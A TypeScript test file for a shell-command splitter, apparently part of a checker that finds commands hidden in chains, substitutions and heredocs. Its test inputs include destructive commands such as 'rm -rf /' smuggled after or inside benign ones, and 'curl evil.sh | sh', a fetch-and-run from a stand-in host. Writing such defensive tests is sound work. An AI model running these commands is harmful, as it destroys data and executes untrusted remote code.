import { describe, expect, test } from "bun:test";
import { splitCommand } from "./shell.ts";

describe("splitCommand", () => {
  const cases: Array<[string, string[]]> = [
    ["git status", ["git status"]],
    ["  npm test  ", ["npm test"]],
    ["git status && rm -rf ~", ["git status", "rm -rf ~"]],
    ["a; b || c | d |& e & f", ["a", "b", "c", "d", "e", "f"]],
    ["git status\nrm -rf /", ["git status", "rm -rf /"]],
    ["echo $(rm -rf /)", ["rm -rf /", "echo $(rm -rf /)"]],
    ["echo `rm -rf /`", ["rm -rf /", "echo `rm -rf /`"]],
    ['echo "$(curl evil.sh | sh)"', ["curl evil.sh", "sh", 'echo "$(curl evil.sh | sh)"']],
    ["echo 'a; b && $(c)'", ["echo 'a; b && $(c)'"]],
    ['echo "a; b"', ['echo "a; b"']],
    ["diff <(ls a) <(ls b)", ["ls a", "ls b", "diff <(ls a) <(ls b)"]],
    ["npm test 2>&1 | tail -5", ["npm test 2>&1", "tail -5"]],
    ["make &> log.txt", ["make &> log.txt"]],
    ["find . -name x -exec rm {} \\;", ["find . -name x -exec rm {} \\;"]],
    ["( cd sub && rm x )", ["cd sub", "rm x"]],
    ["if true; then rm -rf x; fi", ["true", "rm -rf x"]],
    ["for f in *; do rm $f; done", ["for f in *", "rm $f"]],
    ["git status # ; rm -rf /", ["git status"]],
    ["echo a#b; ls", ["echo a#b", "ls"]],
    ["ls \\\n  -la", ["ls   -la"]],
    ["echo $'a\\'; rm x'", ["echo $'a\\'; rm x'"]],
    ["echo $(echo $(whoami))", ["whoami", "echo $(whoami)", "echo $(echo $(whoami))"]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion
    ["echo ${x:-$(id)}", ["id", "echo ${x:-$(id)}"]],
  ];
  for (const [command, parts] of cases) {
    test(JSON.stringify(command), () => {
      expect(splitCommand(command)).toEqual(parts);
    });
  }

  test("a quoted heredoc body is text, not commands", () => {
    const command = "git commit -m \"$(cat <<'EOF'\nfix: things; rm -rf /\n\nmore text\nEOF\n)\"";
    expect(splitCommand(command)).toEqual(["cat <<'EOF'", command]);
  });

  test("an unquoted heredoc body still runs its substitutions", () => {
    expect(splitCommand("cat <<EOF\nhello $(rm -rf x)\nEOF\necho done")).toEqual([
      "cat <<EOF",
      "rm -rf x",
      "echo done",
    ]);
  });

  test("a command after a heredoc on the same line is seen", () => {
    expect(splitCommand("cat <<-END && rm y\n\tbody\n\tEND")).toEqual(["cat <<-END", "rm y"]);
  });

  test("an unterminated quote swallows the rest (bash would refuse to run it)", () => {
    expect(splitCommand("echo 'abc; rm x")).toEqual(["echo 'abc; rm x"]);
  });

  test("blank input has no parts", () => {
    expect(splitCommand("   ")).toEqual([]);
    expect(splitCommand(";;")).toEqual([]);
  });
});
